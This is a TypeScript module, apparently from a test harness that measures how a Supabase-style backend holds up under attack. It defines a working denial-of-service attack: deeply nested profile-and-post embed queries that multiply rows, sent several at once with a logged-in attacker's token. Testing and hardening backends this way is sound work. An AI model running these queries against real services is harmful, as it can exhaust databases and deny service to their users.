/** The embed attack: addresses of a few hundred bytes whose embeds multiply, several at once, by a person with an account. */
import { type AttackedBackend, measureWaitsDuring } from './waits-during.ts'

const atOnce = 3
const rounds = 3

/** Posts of the people of the posts of the people…: each level multiplies the rows by what everybody has written or likes. */
function chain(levels: number, along: string, innermost: string): string {
  let select = innermost
  for (let level = 0; level < levels; level += 1) select = `profiles!${along}(posts!${along}(${select}))`
  return `posts?select=${select}`
}

const addresses = [chain(7, 'user_id', '*'), chain(8, 'user_id', 'id'), chain(4, 'post_likes', 'id')]

export function measureEmbedAttack() {
  return measureWaitsDuring('embeds that multiply', attackWithEmbeds)
}

export async function attackWithEmbeds({ url, anonKey, attackerToken }: AttackedBackend): Promise<void> {
  const headers = { apikey: anonKey, authorization: `Bearer ${attackerToken}` }
  for (let round = 0; round < rounds; round += 1) {
    for (const address of addresses) {
      await Promise.all(
        Array.from({ length: atOnce }, () =>
          fetch(`${url}/rest/v1/${address}`, { headers }).then((response) => response.arrayBuffer()),
        ),
      )
    }
  }
}
